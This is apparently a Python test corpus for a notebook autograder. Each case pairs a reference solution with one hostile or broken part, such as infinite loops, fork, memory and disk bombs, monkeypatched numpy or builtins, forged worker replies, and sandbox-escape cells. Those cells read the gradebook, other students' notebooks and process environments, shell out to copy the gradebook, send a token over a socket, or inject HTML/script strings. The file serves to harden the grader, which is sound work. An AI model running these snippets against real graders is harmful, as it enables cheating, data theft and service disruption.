"""The adversarial corpus: each case is a correct solution (the reference, as a student would
hand it in) plus one hostile or broken part, and what grading must make of it.

``lost`` names, per item, the tests that must fail; every other test of the assignment must
pass, so the attacked part costs exactly what it deserves and nothing else is touched.
``says`` is a regular expression the student's report must match: the plain-words
explanation of what happened. Placeholders in the hostile code are filled in by the test:
``@TOKEN@`` (a secret-looking string unique to the run), ``@DIGITS@`` (digits, unique),
``@COURSE@`` (a fake course folder with ``gradebook.db`` and another student's submission),
``@PROJECT@`` (this project), ``@PORT@`` (a loopback server the test listens on).
"""
import json
import textwrap
from dataclasses import dataclass, field

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

from autograder.selftest.reference_submission import reference_source

LINEAR_ALL = {"forward", "grad_input", "grad_params", "accumulates", "zero_grad", "parameters_by_reference",
              "initialisation", "input_unchanged"}
# What a broken Linear.forward costs (autograder/graders/README.md: each test owns one property).
# A forward that stops the worker (hangs, kills it, breaks the protocol) costs every test that
# runs forward; zeroing, the parameter getter and initialisation never run it.
STOPS_FORWARD = {"forward", "grad_input", "grad_params", "accumulates", "input_unchanged"}
# A forward that raises, or returns something that is not a usable array, costs the forward test
FORWARD_ONLY = {"forward"}
# A forward that computes nothing (zeros, NaN, infinity) also costs the test of a property that
# is judged on what the code computes (inputs left unchanged)
DEGENERATE_FORWARD = {"forward", "input_unchanged"}
# A backward that stops the worker costs the tests that run backward
STOPS_BACKWARD = {"grad_input", "grad_params", "accumulates", "input_unchanged"}

FORWARD = "        self.output = input @ self.W.T + self.b\n        return self.output"
BACKWARD = "        self.gradInput = gradOutput @ self.W\n        return self.gradInput"
INIT = "        super().__init__()\n        bound = 1.0 / np.sqrt(n_in)"


@dataclass(frozen=True)
class Case:
    id: str
    edits: tuple = ()  # (reference file, old text, new text)
    cells: tuple = ()  # extra code cells, appended after the solution
    first_cells: tuple = ()  # extra code cells, before the solution
    raw: object = None  # a function (folder) -> path for inputs that are not built from cells
    suffix: str = ".ipynb"
    lost: dict = field(default_factory=dict)
    says: str = ""
    needs: str | None = None  # "bwrap", "cgroup" (a pids cgroup), "process_limit" or "unprivileged"
    unreadable: bool = False  # the file cannot be read at all: every item scores 0
    items: tuple | None = None  # the items graded, when not the usual three
    memory_mb: int | None = None  # a tighter bound on the grader's memory growth for this case


def code(text):
    return textwrap.dedent(text).strip("\n")


def method(anchor, before="", replace=None):
    """An edit of reference Linear: ``before`` runs ahead of the honest body at ``anchor``,
    or ``replace`` stands instead of it."""
    body = (textwrap.indent(code(before), " " * 8) + "\n" + anchor if replace is None
            else textwrap.indent(code(replace), " " * 8))
    return (("linear.py", anchor, body),)


def in_forward(before="", replace=None):
    return method(FORWARD, before, replace)


def in_backward(before="", replace=None):
    return method(BACKWARD, before, replace)


def in_init(before):
    return method(INIT, before)


# -- building the files ------------------------------------------------------------------------

def solution_chunks(edits=()):
    return [chunk for chunk in reference_source(edits).split("\n\n\n") if chunk.strip()]


def write_notebook(path, chunks, **metadata):
    notebook = new_notebook(cells=[new_markdown_cell("# Homework")] + [new_code_cell(c) for c in chunks])
    notebook.metadata.update(metadata)
    nbformat.write(notebook, path)
    return path


def build(case, folder, fill):
    """The case's submission file in ``folder``; ``fill`` replaces the placeholders."""
    path = folder / f"{case.id}{case.suffix}"
    if case.raw is not None:
        return case.raw(path, fill)
    chunks = [fill(c) for c in case.first_cells] + solution_chunks(
        tuple((f, o, fill(n)) for f, o, n in case.edits)) + [fill(c) for c in case.cells]
    if case.suffix == ".py":
        path.write_text("\n\n\n".join(chunks) + "\n")
        return path
    return write_notebook(path, chunks)


# -- raw inputs --------------------------------------------------------------------------------

def raw_bytes(data):
    def make(path, fill):
        path.write_bytes(data)
        return path
    return make


def nbformat_v3(path, fill):
    from nbformat import v3

    cells = [v3.new_code_cell(input=chunk) for chunk in solution_chunks()]
    notebook = v3.new_notebook(worksheets=[v3.new_worksheet(cells=cells)])
    path.write_text(v3.writes_json(notebook))
    return path


def crlf_notebook(path, fill):
    notebook = new_notebook(cells=[new_code_cell(c.replace("\n", "\r\n")) for c in solution_chunks()])
    path.write_bytes(nbformat.writes(notebook).replace("\n", "\r\n").encode())
    return path


def crlf_py(path, fill):
    path.write_bytes(reference_source().replace("\n", "\r\n").encode())
    return path


def latin1_notebook(path, fill):
    chunks = solution_chunks()
    chunks[0] = "# Übung: réseau de neurones, naïve première version ÿ\n" + chunks[0]
    path.write_bytes(nbformat.writes(new_notebook(cells=[new_code_cell(c) for c in chunks])).encode("latin-1"))
    return path


def utf16_notebook(path, fill):
    notebook = new_notebook(cells=[new_code_cell(c) for c in solution_chunks()])
    path.write_bytes(nbformat.writes(notebook).encode("utf-16"))
    return path


def empty_notebook(path, fill):
    nbformat.write(new_notebook(), path)
    return path


def markdown_only(path, fill):
    nbformat.write(new_notebook(cells=[new_markdown_cell(c) for c in solution_chunks()]), path)
    return path


def unknown_kernel(path, fill):
    return write_notebook(path, solution_chunks(), kernelspec={"name": "ir", "display_name": "R", "language": "R"},
                          language_info={"name": "R"})


def grade_cells(path, fill):
    """nbgrader's read-only grade cells, duplicated, with hostile code in them: they belong to
    the grader and are not run; deleted ones are simply missing."""
    cells = [new_code_cell(c) for c in solution_chunks()]
    for copy in range(2):
        for source in ("while True:\n    pass", "import os\nos._exit(1)", "assert False, 'grade cell'"):
            cell = new_code_cell(source)
            cell.metadata["nbgrader"] = {"grade": True, "solution": False, "grade_id": "grade_Linear", "points": 11,
                                         "locked": True}
            cells.insert(3 + copy, cell)
    nbformat.write(new_notebook(cells=cells), path)
    return path


def odd_cells(path, fill):
    """Cells that are not what nbformat makes: sources as lists, unknown cell types, raw
    cells, cells that are not objects, missing fields, an absurd execution order."""
    notebook = json.loads(nbformat.writes(new_notebook(cells=[new_code_cell(c) for c in solution_chunks()])))
    for number, cell in enumerate(notebook["cells"]):
        if isinstance(cell["source"], str):
            cell["source"] = cell["source"].splitlines(keepends=True)
        cell["execution_count"] = 1000 - number
    notebook["cells"][1:1] = [42, None, "cell", {"cell_type": "raw", "source": "raw text"},
                              {"cell_type": "code"}, {"cell_type": "widget", "source": "x"}]
    path.write_text(json.dumps(notebook))
    return path


def huge_outputs(path, fill):
    """A 50 MB notebook: the solution with large image and text outputs saved in it."""
    import base64
    import os

    image = base64.b64encode(os.urandom(3 << 20)).decode()
    cells = [new_code_cell(c) for c in solution_chunks()]
    for cell in cells[:13]:
        cell.outputs = [nbformat.v4.new_output("display_data", data={"image/png": image}),
                        nbformat.v4.new_output("stream", name="stdout", text="loss 0.1\n" * 1000)]
    nbformat.write(new_notebook(cells=cells), path)
    assert path.stat().st_size > 50 << 20
    return path


def forge_linear_forward_reply(statement):
    """A cell that patches the worker so that its replies to Linear's forward are changed by
    ``statement`` (on ``reply``) before they are sent."""
    return code("""
        import sys
        _worker = sys.modules["__main__"].Worker
        _call = _worker.op_call
        def op_call(self, request, arrays, out):
            reply = _call(self, request, arrays, out)
            if request.get("method") in ("forward", "updateOutput") and type(self.objects.get(
                    (request.get("target") or {}).get("$h"))).__name__ == "Linear":
                @STATEMENT@
            return reply
        _worker.op_call = op_call
        """).replace("@STATEMENT@", statement)


def runs_itself(path, fill):
    """A notebook whose first cell includes itself hundreds of times, by its own file name and by
    the name the assignment gives it (each inclusion would include it again)."""
    lines = [f"%run {path.name}", "%run modules.ipynb"] * 150
    return write_notebook(path, ["\n".join(lines)] + solution_chunks())


def many_markers(path, fill):
    """A .py file of the solution followed by 3000 cell markers, each before 80 lines."""
    cell = "# %%\n" + "pass\n" * 80
    path.write_text("\n\n\n".join(solution_chunks()) + "\n" + cell * 3000)
    return path


def huge_cell(path, fill):
    """A cell of 2.5 MB of code (one enormous literal) amid the solution."""
    chunks = solution_chunks() + ["table = [" + "0.5, " * 500_000 + "]"]
    return write_notebook(path, chunks)


# -- the corpus --------------------------------------------------------------------------------

SPIN = "while True:\n    pass"
WRONG_FORWARD = "self.output = np.zeros((input.shape[0], self.W.shape[0]))\nreturn self.output"

CASES = [
    # never-ending code ------------------------------------------------------------------------
    Case("hang_top_level", cells=(SPIN,), says=r"did not finish within"),
    Case("hang_sleep_top_level", cells=("import time\ntime.sleep(10 ** 6)",), says=r"did not finish within"),
    Case("hang_forward", edits=in_forward(SPIN), lost={"Linear": STOPS_FORWARD},
         says=r"Linear\.forward did not finish within .*not run again"),
    Case("hang_backward", edits=in_backward(SPIN), lost={"Linear": STOPS_BACKWARD},
         says=r"Linear\.backward did not finish within"),
    Case("hang_init", edits=in_init(SPIN), lost={"Linear": LINEAR_ALL}, says=r"Linear\(\.\.\.\) was not run again"),
    Case("hang_in_del_of_garbage", cells=(code("""
        class Trap:
            def __del__(self):
                while True:
                    pass
        trap = Trap()
        trap.me = trap  # a cycle: freed only by the garbage collector, at a moment of its choosing
        del trap
        """),), says=r"did not finish within"),
    Case("hang_in_del_during_forward", edits=in_forward(code("""
        class Trap:
            def __del__(self):
                while True:
                    pass
        Trap()
        """)), lost={"Linear": STOPS_FORWARD}, says=r"Linear\.forward did not finish within"),
    Case("hang_at_interpreter_exit", cells=(code("""
        import atexit, time
        class Keeper:
            def __del__(self):
                while True:
                    pass
        keeper = Keeper()
        atexit.register(time.sleep, 10 ** 6)
        """),)),
    Case("thread_spinning_after_cell", cells=(code("""
        import threading
        def spin():
            while True:
                pass
        threading.Thread(target=spin, daemon=True).start()
        """),), says=r"thread\(s\) running in the background that kept using the CPU"),
    Case("thread_spinning_from_forward", edits=in_forward(code("""
        import threading, _thread
        def spin():
            while True:
                pass
        _thread.start_new_thread(spin, ())
        """)), lost={"Linear": STOPS_FORWARD}, says=r"While running Linear\.forward, .*background"),
    Case("thread_idle_is_tolerated", cells=(code("""
        import threading
        from concurrent.futures import ThreadPoolExecutor
        pool = ThreadPoolExecutor(2)
        assert pool.submit(sum, [1, 2]).result() == 3
        threading.Thread(target=threading.Event().wait, daemon=True).start()
        """),)),
    Case("process_left_running", needs="cgroup", cells=(code("""
        import subprocess
        subprocess.Popen(["sleep", "1000"])
        """),), says=r"process\(es\) still running"),
    Case("process_escapes_with_setsid", needs="cgroup", cells=(code("""
        import os
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execv("/bin/sleep", ["sleep", "1000.@DIGITS@"])
            os._exit(0)
        os.wait()
        """),), says=r"process\(es\) still running"),

    # resource bombs ---------------------------------------------------------------------------
    Case("memory_bomb", cells=("import numpy as np\nbig = np.ones(1 << 40)",), says=r"MemoryError"),
    Case("memory_creep_in_forward", edits=in_forward(code("""
        hoard = []
        while True:
            hoard.append(np.empty(50 << 20, dtype=np.uint8))
        """)), lost={"Linear": FORWARD_ONLY}, says=r"Linear\.forward raised `MemoryError`"),
    Case("fork_bomb", needs="process_limit", cells=(code("""
        import os
        while True:
            try:
                os.fork()
            except OSError:
                pass
        """),), says=r"did not finish within|process\(es\) still running"),
    Case("disk_bomb", needs="bwrap", cells=(code("""
        import os
        chunk = b"x" * (8 << 20)
        for folder in (".", "/tmp"):
            for i in range(200):
                with open(os.path.join(folder, f"fill{i}.bin"), "wb") as f:
                    f.write(chunk)
        """),), says=r"No space left on device"),
    Case("huge_file", cells=("open('big.bin', 'wb').write(b'x' * (40 << 20))",), says=r"File too large"),
    Case("print_flood", cells=("for i in range(1_000_000):\n    print('spam', i)",)),
    Case("print_flood_in_forward", edits=in_forward("for i in range(20_000):\n    print('spam', i)")),
    Case("writes_to_raw_stdout_and_stderr", edits=in_forward(
        "import os\nos.write(1, b'\\x00' * 100_000)\nos.write(2, b'garbage' * 10_000)")),
    Case("deep_recursion_in_forward", edits=in_forward(code("""
        import sys
        sys.setrecursionlimit(10 ** 7)
        def down(n):
            return down.__call__(n + 1)
        down(0)
        """)), lost={"Linear": STOPS_FORWARD}, says=r"Linear\.forward"),
    Case("recursion_error", edits=in_forward("def down(n):\n    return down(n + 1)\ndown(0)"),
         lost={"Linear": FORWARD_ONLY}, says=r"RecursionError"),
    Case("huge_array_returned", edits=in_forward(replace="return np.zeros(12_500_000)"),
         lost={"Linear": FORWARD_ONLY},
         says=r"too large to send"),
    Case("huge_list_returned", edits=in_forward(replace="return [0.5] * 300_000"),
         lost={"Linear": FORWARD_ONLY},
         says=r"too large to send"),

    # exits ------------------------------------------------------------------------------------
    Case("sys_exit_cell", cells=("import sys\nsys.exit(0)",), says=r"SystemExit"),
    Case("os_exit_cell", cells=("import os\nos._exit(0)",), says=r"exited with code 0"),
    Case("kill_itself_in_forward", edits=in_forward("import os\nos.kill(os.getpid(), 9)"),
         lost={"Linear": STOPS_FORWARD}, says=r"was killed \(signal 9"),
    Case("system_exit_from_backward", edits=in_backward("raise SystemExit(3)"),
         lost={"Linear": {"grad_input"}},
         says=r"raised `SystemExit`"),
    Case("keyboard_interrupt_from_forward", edits=in_forward("raise KeyboardInterrupt"),
         lost={"Linear": FORWARD_ONLY}, says=r"raised `KeyboardInterrupt`"),
    Case("signal_handlers_replaced", cells=(code("""
        import signal
        for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGXCPU, signal.SIGPIPE, signal.SIGALRM):
            signal.signal(sig, signal.SIG_IGN)
        """),), edits=in_forward(SPIN), lost={"Linear": STOPS_FORWARD}, says=r"did not finish within"),
    Case("alarm_set_for_later", cells=(code("""
        import signal
        signal.alarm(1)
        signal.setitimer(signal.ITIMER_PROF, 0.5)
        """),)),
    Case("channel_closed", edits=in_forward("import os\nfor fd in range(3, 64):\n    try:\n        os.close(fd)\n"
                                            "    except OSError:\n        pass"),
         lost={"Linear": STOPS_FORWARD}, says=r"While running Linear\.forward, the worker process"),

    # tampering --------------------------------------------------------------------------------
    Case("patched_numpy_comparisons", cells=(code("""
        import numpy as np, numpy.testing
        np.allclose = np.array_equal = lambda *a, **k: True
        np.testing.assert_allclose = np.testing.assert_array_almost_equal = lambda *a, **k: None
        np.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), dtype=bool)
        """),), edits=in_forward(replace=WRONG_FORWARD), lost={"Linear": DEGENERATE_FORWARD}, says=r"Linear"),
    Case("patched_builtins_in_forward", edits=in_forward(code("""
        import builtins
        builtins.isinstance = lambda *a: True
        builtins.len = lambda x: 0
        builtins.type = lambda *a: int
        builtins.AssertionError = ZeroDivisionError
        builtins.print = None
        builtins.all = builtins.any = lambda *a: True  # what a check of the builtins may itself call
        builtins.map = builtins.vars = lambda *a: ()
        """))),
    Case("patched_sys_modules", cells=(code("""
        import sys, types
        for name in ("autograder", "autograder.checks", "reference_impl", "pytest", "numpy.testing", "json"):
            fake = types.ModuleType(name)
            fake.__getattr__ = lambda attr: (lambda *a, **k: True)
            sys.modules[name] = fake
        """),), edits=in_forward(replace=WRONG_FORWARD), lost={"Linear": DEGENERATE_FORWARD}, says=r"Linear"),
    Case("patched_interpreter_state", cells=(code("""
        import sys
        sys.setrecursionlimit(25)
        sys.settrace(lambda *a: None)
        sys.stdout = sys.stderr = open("/dev/null", "w")
        """),)),
    Case("lying_ndarray_subclass", first_cells=(code("""
        import numpy as np
        class Liar(np.ndarray):
            def __eq__(self, other):
                return np.ones(np.shape(self), dtype=bool)
            def __array_ufunc__(self, *args, **kwargs):
                return True
            def __bool__(self):
                return True
        """),), edits=in_forward(replace="return np.zeros((input.shape[0], self.W.shape[0])).view(Liar)"),
         lost={"Linear": DEGENERATE_FORWARD}, says=r"Linear"),
    Case("array_like_object", first_cells=(code("""
        class ArrayLike:
            def __init__(self, value):
                self.value = value
            def __array__(self, dtype=None, copy=None):
                return self.value
        """),), edits=in_forward(replace="self.output = input @ self.W.T + self.b\nreturn ArrayLike(self.output)")),
    Case("array_like_that_raises", first_cells=(code("""
        class Broken:
            def __array__(self, dtype=None, copy=None):
                raise RuntimeError("no")
        """),), edits=in_forward(replace="return Broken()"),
         lost={"Linear": FORWARD_ONLY}, says=r"could not be turned into an array"),
    Case("object_that_spoofs_its_class", first_cells=(code("""
        import numpy as np
        class Spoof:
            __class__ = property(lambda self: np.ndarray)
            shape = (4, 3)
        """),), edits=in_forward(replace="return Spoof()"), lost={"Linear": FORWARD_ONLY}, says=r"not a NumPy array"),
    Case("returns_list", edits=in_forward(replace="return (input @ self.W.T + self.b).tolist()"),
         lost={"Linear": FORWARD_ONLY}, says=r"returned a list"),
    Case("returns_none", edits=in_forward(replace="self.output = input @ self.W.T + self.b"),
         lost={"Linear": FORWARD_ONLY}, says=r"returned None"),
    Case("returns_nan", edits=in_forward(replace="return (input @ self.W.T + self.b) * np.nan"),
         lost={"Linear": DEGENERATE_FORWARD}, says=r"Linear"),
    Case("returns_inf", edits=in_forward(replace="return (input @ self.W.T + self.b) + np.inf"),
         lost={"Linear": DEGENERATE_FORWARD}, says=r"Linear"),
    Case("returns_object_dtype", edits=in_forward(replace="return (input @ self.W.T + self.b).astype(object)"),
         lost={"Linear": FORWARD_ONLY}, says=r"dtype object"),
    Case("returns_complex", edits=in_forward(replace="return (input @ self.W.T + self.b) + 0j"),
         lost={"Linear": FORWARD_ONLY}, says=r"complex"),
    Case("returns_strings", edits=in_forward(replace="return (input @ self.W.T + self.b).astype(str)"),
         lost={"Linear": FORWARD_ONLY}, says=r"dtype (<|&lt;)U"),
    # the in-place parameter test compares with the student's own forward, so the wrong shape
    # is charged to the forward test alone
    Case("returns_wrong_shape", edits=in_forward(replace="return (input @ self.W.T + self.b).T"),
         lost={"Linear": {"forward"}}, says=r"shape"),
    Case("mutates_its_input", edits=in_forward(replace="self.output = input @ self.W.T + self.b\ninput[...] = 0\n"
                                                       "return self.output"),
         lost={"Linear": {"input_unchanged"}}, says=r"in place"),
    Case("forged_reply_nested_json", edits=in_forward(code("""
        import os, stat, struct
        frame = b'{"ok": true, "result": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
        for fd in range(3, 16):
            try:
                if stat.S_ISFIFO(os.fstat(fd).st_mode):
                    os.write(fd, struct.pack(">Q", len(frame)) + frame)
            except OSError:
                pass
        """)), lost={"Linear": STOPS_FORWARD}, says=r"sent a malformed reply"),
    Case("forged_reply_huge_frame", edits=in_forward(code("""
        import os, stat, struct
        for fd in range(3, 16):
            try:
                if stat.S_ISFIFO(os.fstat(fd).st_mode):
                    os.write(fd, struct.pack(">Q", 1 << 40) + b"x" * 65536)
            except OSError:
                pass
        """)), lost={"Linear": STOPS_FORWARD}, says=r"sent a malformed reply"),
    Case("forged_reply_over_the_total_cap", edits=in_forward(code("""
        import json, os, stat, struct
        header = json.dumps({"ok": True, "result": {"$a": 0}, "n_arrays": 10_000}).encode()
        n = (20 << 20) // 8  # a whole frame of 20 MB, under the cap of one frame
        first = b"<f8 " + struct.pack(">BQ", 1, n) + bytes(8 * n)
        frames = [header, first]
        message = b"".join(struct.pack(">Q", len(f)) + f for f in frames) + struct.pack(">Q", 20 << 20)
        for fd in range(3, 16):
            try:
                if stat.S_ISFIFO(os.fstat(fd).st_mode):
                    os.write(fd, message)
            except OSError:
                pass
        """)), lost={"Linear": STOPS_FORWARD}, says=r"a reply of more than 32 MB"),
    Case("hostile_metaclass", cells=(code("""
        class Meta(type):
            @property
            def __mro__(cls):
                while True:
                    pass
            def __getattribute__(cls, name):
                raise RuntimeError(name)
        class Evil(metaclass=Meta):
            pass
        class Crowded:
            pass
        for i in range(100_000):
            setattr(Crowded, f"attribute_{i}", i)
        """),)),
    Case("exception_whose_message_hangs", first_cells=(code("""
        class Stuck(Exception):
            def __str__(self):
                while True:
                    pass
        """),), edits=in_forward("raise Stuck()"), lost={"Linear": STOPS_FORWARD}, says=r"did not finish within"),
    Case("differs_when_replayed", cells=(code("""
        import os
        if os.path.exists(".already-ran"):
            while True:
                pass
        open(".already-ran", "w").close()
        """),), edits=in_forward("import os\nos._exit(1)"), lost={"Linear": STOPS_FORWARD},
         says=r"exited with code 1"),
    Case("reads_stdin", cells=("answer = input('learning rate? ')",), says=r"EOFError"),

    # escape attempts (only bubblewrap stops them; without it they are skipped) -----------------
    Case("reads_the_reference_and_graders", needs="bwrap", cells=(code("""
        import glob, importlib
        found = []
        for pattern in ("@PROJECT@/reference_impl/*.py", "@PROJECT@/autograder/graders/*.py",
                        "@PROJECT@/**/*.py", "/work/**/*.py"):
            for name in glob.glob(pattern, recursive=True):
                found.append(open(name).read())
        for module in ("reference_impl", "autograder.graders.test_linear"):
            try:
                found.append(open(importlib.import_module(module).__file__).read())
            except Exception as error:
                found.append(repr(error))
        raise RuntimeError("found: " + "".join(found)[:1500])
        """),), says=r"RuntimeError: found: "),
    Case("reads_gradebook_and_other_students", needs="bwrap", cells=(code("""
        import glob, os, time
        found = []
        stop = time.monotonic() + 1.5  # within the cell limit however much the sandbox shows
        def grab(name):
            if time.monotonic() > stop:
                return
            try:
                found.append(open(name, "rb").read(100_000).decode("latin-1"))
            except OSError:
                pass
        for pattern in ("@COURSE@/gradebook.db", "@COURSE@/**/*.ipynb", "../*/*", "../../gradebook.db"):
            for name in glob.glob(pattern, recursive=True):
                if not name.startswith(("../proc", "../sys", "../dev", "../usr", "../bin", "../sbin", "../lib")):
                    grab(name)
        for root, dirs, files in os.walk("/"):
            if time.monotonic() > stop:
                break
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "usr", "site-packages", "share")]
            for name in files:
                if name == "gradebook.db" or name.endswith(".ipynb"):
                    grab(os.path.join(root, name))
        raise RuntimeError("found: " + "".join(found)[:1500])
        """),), says=r"RuntimeError: found: "),
    Case("reads_the_graders_environment", needs="bwrap", cells=(code("""
        import os
        found = [repr(dict(os.environ))]
        for pid in os.listdir("/proc"):
            for part in ("environ", "cmdline"):
                try:
                    found.append(open(f"/proc/{pid}/{part}", "rb").read().decode("latin-1"))
                except (OSError, ValueError):
                    pass
        raise RuntimeError("found: " + "".join(found)[-1500:])
        """),), says=r"RuntimeError: found: "),
    Case("writes_outside_the_sandbox", needs="bwrap", cells=(code("""
        import os
        for target in ("@PROJECT@/reference_impl/pwned_@TOKEN@.py", "@PROJECT@/autograder/graders/pwned_@TOKEN@.py",
                       "@COURSE@/pwned_@TOKEN@", "/tmp/pwned_@TOKEN@", os.path.expanduser("~/pwned_@TOKEN@"),
                       "../pwned_@TOKEN@"):
            try:
                open(target, "w").write("pwned")
            except OSError:
                pass
        with open("@COURSE@/gradebook.db", "ab") as db:
            db.write(b"pwned")
        """),), says=r"(FileNotFoundError|PermissionError|OSError)"),
    Case("opens_a_network_connection", needs="bwrap", cells=(code("""
        import socket
        connection = socket.create_connection(("127.0.0.1", @PORT@), timeout=2)
        connection.sendall(b"stolen @TOKEN@")
        """),), says=r"(OSError|ConnectionRefusedError|Network is unreachable)"),
    Case("spawns_a_shell", needs="bwrap", cells=(code("""
        import os, subprocess
        os.system("echo pwned > @COURSE@/pwned_shell_@TOKEN@; cat @COURSE@/gradebook.db > leaked.txt")
        out = subprocess.run(["sh", "-c", "cat @COURSE@/gradebook.db; ls @PROJECT@/reference_impl"],
                             capture_output=True, text=True)
        raise RuntimeError("shell said: " + out.stdout + out.stderr + open("leaked.txt").read())
        """),), says=r"RuntimeError: shell said: "),
    Case("magics_and_shell_lines", cells=(code("""
        !echo pwned > @COURSE@/pwned_magic_@TOKEN@
        files = !ls @COURSE@
        %cd @COURSE@
        """), "%%bash\necho pwned > @COURSE@/pwned_bash_@TOKEN@", "get_ipython().system('cat @COURSE@/gradebook.db')"),
         says=r"NameError: name 'get_ipython' is not defined"),

    # broken input -----------------------------------------------------------------------------
    Case("invalid_json", raw=raw_bytes(b'{"cells": [ this is not json'), unreadable=True, says=r"not a valid notebook"),
    Case("zero_bytes", raw=raw_bytes(b""), unreadable=True, says=r"not a valid notebook"),
    Case("binary_garbage", raw=raw_bytes(bytes(range(256)) * 64), unreadable=True, says=r"not a valid notebook"),
    Case("json_but_not_a_notebook", raw=raw_bytes(b"[1, 2, 3]"), unreadable=True, says=r"not a notebook"),
    Case("utf16_notebook", raw=utf16_notebook),  # saved by an editor as UTF-16: read and graded
    Case("nbformat_v3", raw=nbformat_v3),
    Case("empty_notebook", raw=empty_notebook, lost={"Linear": LINEAR_ALL, "SoftMax": "*", "MSECriterion": "*"},
         says=r"`Linear` is not defined"),
    Case("no_code_cells", raw=markdown_only, lost={"Linear": LINEAR_ALL, "SoftMax": "*", "MSECriterion": "*"},
         says=r"`MSECriterion` is not defined"),
    Case("syntax_error_in_the_linear_cell", edits=(("linear.py", "    def getParameters(self):",
                                                    "    def getParameters(self) oops:"),),
         lost={"Linear": LINEAR_ALL}, says=r"SyntaxError.*\n?.*|`Linear` is not defined"),
    Case("syntax_error_elsewhere", cells=("def broken(:\n    pass",), says=r"SyntaxError"),
    Case("unknown_kernel", raw=unknown_kernel),
    Case("crlf_notebook", raw=crlf_notebook),
    Case("crlf_python_file", raw=crlf_py, suffix=".py"),
    Case("latin1_notebook", raw=latin1_notebook),
    Case("duplicated_and_deleted_grade_cells", raw=grade_cells),
    Case("odd_cells", raw=odd_cells),
    Case("class_defined_twice_last_correct", first_cells=(
        "import numpy as np\nclass Linear:\n    def __init__(self, *a):\n        raise ValueError('old draft')",)),
    Case("class_defined_twice_last_wrong", cells=(code("""
        class Linear(Linear):
            def updateOutput(self, input):
                self.output = np.zeros((input.shape[0], self.W.shape[0]))
                return self.output
        """),), lost={"Linear": DEGENERATE_FORWARD}, says=r"Linear"),
    Case("usage_before_definitions", first_cells=(
        "layer = Linear(3, 4)\nprint(layer.forward(np.ones((2, 3))))",), says=r"NameError"),
    Case("notebook_of_50_mb", raw=huge_outputs),
    Case("cell_of_2_mb", raw=huge_cell),

    # privileges: the student's code never runs as root, even when the grader does ------------
    Case("opens_host_sysctls_for_writing", needs="unprivileged", edits=in_forward(code("""
        import os
        writable = []
        for name in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/panic", "/proc/sys/vm/drop_caches",
                     "/proc/sys/vm/overcommit_memory", "/proc/sys/kernel/threads-max", "/proc/sysrq-trigger"):
            try:
                os.close(os.open(name, os.O_WRONLY))  # opened, never written
                writable.append(name)
            except OSError:
                pass
        if writable:
            raise RuntimeError(f"writable: {writable}")
        """))),
    Case("runs_as_root_or_can_become_root", needs="unprivileged", edits=in_forward(code("""
        import errno, os
        if 0 in (os.getuid(), os.geteuid(), os.getgid()):
            raise RuntimeError("runs as root")
        status = open("/proc/self/status").read()
        held = [line for line in status.splitlines() if line.startswith(("CapEff", "CapPrm", "CapAmb"))
                and int(line.split()[1], 16)]
        if held:
            raise RuntimeError(f"holds capabilities: {held}")
        try:
            os.setuid(0)
            raise RuntimeError("became root")
        except OSError as refused:  # EPERM; EINVAL in a user namespace where uid 0 is not mapped
            if refused.errno not in (errno.EPERM, errno.EINVAL):
                raise
        """))),
    Case("leaves_its_process_cgroup", needs="unprivileged", edits=in_forward(code("""
        import os
        for root in ("/sys/fs/cgroup/pids", "/sys/fs/cgroup/unified", "/sys/fs/cgroup"):
            try:
                with open(os.path.join(root, "cgroup.procs"), "w") as procs:
                    procs.write(str(os.getpid()))
                raise RuntimeError(f"moved itself to {root}")
            except OSError:
                pass
        """))),

    # the worker's reports are not evidence -----------------------------------------------------
    Case("forged_reply_without_its_result", cells=(forge_linear_forward_reply('reply.pop("result", None)'),),
         lost={"Linear": STOPS_FORWARD}, says=r"sent a malformed reply \(reply lacks result\)"),
    Case("forged_handle_in_a_reply", cells=(forge_linear_forward_reply('reply["result"] = {"$h": 1}'),),
         lost={"Linear": STOPS_FORWARD}, says=r"sent a malformed reply"),
    Case("mutates_its_input_and_forges_the_report", first_cells=(code("""
        import sys
        _originals = {}
        _worker = sys.modules["__main__"].Worker
        _wire = _worker.wire
        def wire(self, value, arrays, notes):
            return _wire(self, _originals.get(id(value), value), arrays, notes)
        _worker.wire = wire
        """),), edits=in_forward(replace="self.output = input @ self.W.T + self.b\n_originals[id(input)] = "
                                          "input.copy()\ninput[...] = 0\nreturn self.output"),
         lost={"Linear": {"input_unchanged"}}, says=r"changed its argument 1 in place"),
    Case("sgd_not_in_place_and_forges_the_report", items=("sgd_momentum",), edits=(("optimizers.py", (
        "    for index, var, grad in _pairs(variables, gradients):\n"
        "        velocity = accumulated.setdefault(index, np.zeros_like(grad))\n"
        "        velocity *= config[\"momentum\"]\n"
        "        velocity += config[\"learning_rate\"] * grad\n"
        "        var -= velocity"), code("""
            index = 0
            for layer_variables, layer_gradients in zip(variables, gradients):
                for j, grad in enumerate(layer_gradients):
                    velocity = accumulated.setdefault(index, np.zeros_like(grad))
                    velocity *= config["momentum"]
                    velocity += config["learning_rate"] * grad
                    layer_variables[j] = layer_variables[j] - velocity  # a new array in the list
                    index += 1
        """).replace("\n", "\n    ").join(["    ", ""])),), cells=(code("""
        import sys
        _worker = sys.modules["__main__"].Worker
        _call = _worker.op_call
        def op_call(self, request, arrays, out):
            reply = _call(self, request, arrays, out)
            reply["same_arrays"] = True
            return reply
        _worker.op_call = op_call
        """),), lost={"sgd_momentum": {"in_place"}}, says=r"put new arrays into the lists"),
    Case("scribbles_over_shared_memory", edits=in_forward(code("""
        import mmap
        if isinstance(input.base, mmap.mmap):
            whole = np.frombuffer(input.base, dtype=np.uint8)
            start = input.__array_interface__["data"][0] - whole.__array_interface__["data"][0]
            whole[start + input.nbytes:] = 0xAB  # everything after this call's own input
        """))),

    # text from the submission reaches HTML only escaped ----------------------------------------
    Case("html_in_an_exception_message", edits=in_forward(
        "raise ValueError('<img src=x onerror=alert(1)> ```\\n<script>alert(2)</script>')"),
         lost={"Linear": FORWARD_ONLY}, says=r"raised `ValueError`"),
    Case("html_as_an_exception_type_name", edits=in_forward(
        "raise type('<img src=x onerror=alert(1)>', (Exception,), {})('boom')"),
         lost={"Linear": FORWARD_ONLY}, says=r"raised &lt;img src=x"),
    Case("html_as_a_defined_name", cells=(code("""
        globals()["<svg onload=alert(1)>"] = type("Evil", (), {})
